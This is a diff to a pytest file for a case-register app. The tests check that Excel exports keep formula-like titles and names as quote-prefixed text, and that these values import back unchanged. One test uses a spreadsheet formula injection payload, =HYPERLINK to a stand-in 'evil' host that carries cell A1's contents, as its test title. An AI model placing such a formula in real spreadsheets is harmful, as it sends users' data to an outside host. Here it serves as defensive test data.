@@ -7,7 +7,7 @@ import json
 
 import openpyxl
 import pytest
-from sqlalchemy import update
+from sqlalchemy import select, update
 
 from app.domain.excel_safety import EXCEL_MAX_CELL_CHARS, TRUNCATION_MARK
 from tests.integration.excel_support import legacy_rows, write_register
@@ -38,8 +38,12 @@ def test_formula_like_text_is_written_as_text(app, make_case, tmp_path, title):
         export_cases(db.session, command_line_actor(), tmp_path / "out.xlsx", lang="en")
     _, rows = _rows(tmp_path / "out.xlsx")
     cell = rows[1][_column(rows, "Title")]
-    assert cell.data_type == "s"
-    assert cell.value == "'" + title  # the documented guard: a leading apostrophe, the rest unchanged
+    # Text, and quote-prefixed so that it stays text when a clerk edits the cell in Excel; the
+    # value itself is the title as stored, so that the export imports back unchanged.
+    assert cell.data_type == "s" and cell.quotePrefix
+    assert cell.value == title
+    plain = rows[1][_column(rows, "Tracking code")]
+    assert plain.data_type == "s" and not plain.quotePrefix
 
 
 def test_control_characters_go_and_long_text_is_cut_with_a_mark(app, make_case, tmp_path):
@@ -142,15 +146,37 @@ def test_cli_export_filters(app, make_case, tmp_path):
 
 
 def test_cli_monthly_workbook(app, make_case, tmp_path):
-    make_case("DIW")
+    from app.extensions import db
+    from app.models import Case
+
+    title = '=HYPERLINK("http://evil/?"&A1,"ดู")'
+    make_case("DIW", title=title)
     now = dt.datetime.now(dt.timezone(dt.timedelta(hours=7)))
+    with app.app_context():  # due earlier this month and still open: one of the month's breaches
+        db.session.execute(update(Case).values(due_at=now.replace(day=1, hour=12, minute=0, second=0, microsecond=0)))
+        db.session.commit()
     out = tmp_path / "month.xlsx"
     result, summary = _cli(app, "cases", "export-monthly", str(out), "--month", f"{now.year + 543}-{now.month:02d}")
     assert result.exit_code == 0 and summary["agencies"] == 1, result.output
     workbook = openpyxl.load_workbook(out)
     assert [sheet.title for sheet in workbook.worksheets] == ["สรุปรายหน่วยงาน", "เรื่องเกินกำหนด", "ตามประเภทเรื่อง"]
+    breach = workbook.worksheets[1]["D2"]
+    assert breach.value == title and breach.data_type == "s" and breach.quotePrefix
     result, summary = _cli(app, "cases", "export-monthly", str(out), "--month", "2025-13")
     assert result.exit_code == 1
+
+
+def test_the_template_keeps_formula_like_names_text(app, tmp_path):
+    from app.services.import_files import write_template
+
+    write_template(tmp_path / "template.xlsx", "both", [("DIW-X", "=HYPERLINK(\"x\")", "+ประเภท")])
+    workbook = openpyxl.load_workbook(tmp_path / "template.xlsx")
+    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
+    cells += [cell for row in workbook.worksheets[1].iter_rows() for cell in row]
+    formula_like = [cell for cell in cells if cell.value in ('=HYPERLINK("x")', "+ประเภท")]
+    assert len(formula_like) == 3  # the example row's case type, and the help sheet's two names
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in formula_like)
+    assert not any(cell.quotePrefix for cell in cells if cell not in formula_like)
 
 
 def test_an_export_imports_back_unchanged(app, tmp_path):
@@ -161,3 +187,26 @@ def test_an_export_imports_back_unchanged(app, tmp_path):
     result, summary = _cli(app, "cases", "import", str(out), "--agency", "DIW")
     assert result.exit_code == 0, result.output
     assert (summary["new"], summary["updated"], summary["errors"]) == (0, 0, 0) and summary["unchanged"] == 4
+
+
+def test_formula_like_text_imports_back_unchanged(app, tmp_path):
+    """A title or a name starting with - = + or @ is exported quote-prefixed, not with an
+    apostrophe in its value, so it comes back as it was and the row is unchanged."""
+    from app.extensions import db
+    from app.models import Case
+
+    _cli(app, "cases", "import", str(write_register(tmp_path / "reg.xlsx", legacy_rows())), "--agency", "DIW")
+    texts = {"REG-67-001": ("- น้ำเสียไหลลงคลอง", "=นายสมชาย"), "REG-67-002": ("+ กลิ่นเหม็น", "@สมหญิง")}
+    with app.app_context():
+        for ref, (title, name) in texts.items():
+            db.session.execute(update(Case).where(Case.external_ref == ref).values(title=title, requester_name=name))
+        db.session.commit()
+    out = tmp_path / "export.xlsx"
+    _cli(app, "cases", "export", str(out), "--agency", "DIW")
+    result, summary = _cli(app, "cases", "import", str(out), "--agency", "DIW")
+    assert result.exit_code == 0, result.output
+    assert (summary["new"], summary["updated"], summary["errors"], summary["unchanged"]) == (0, 0, 0, 4)
+    with app.app_context():
+        stored = {ref: (title, name) for ref, title, name in db.session.execute(
+            select(Case.external_ref, Case.title, Case.requester_name).where(Case.external_ref.in_(texts)))}
+    assert stored == texts
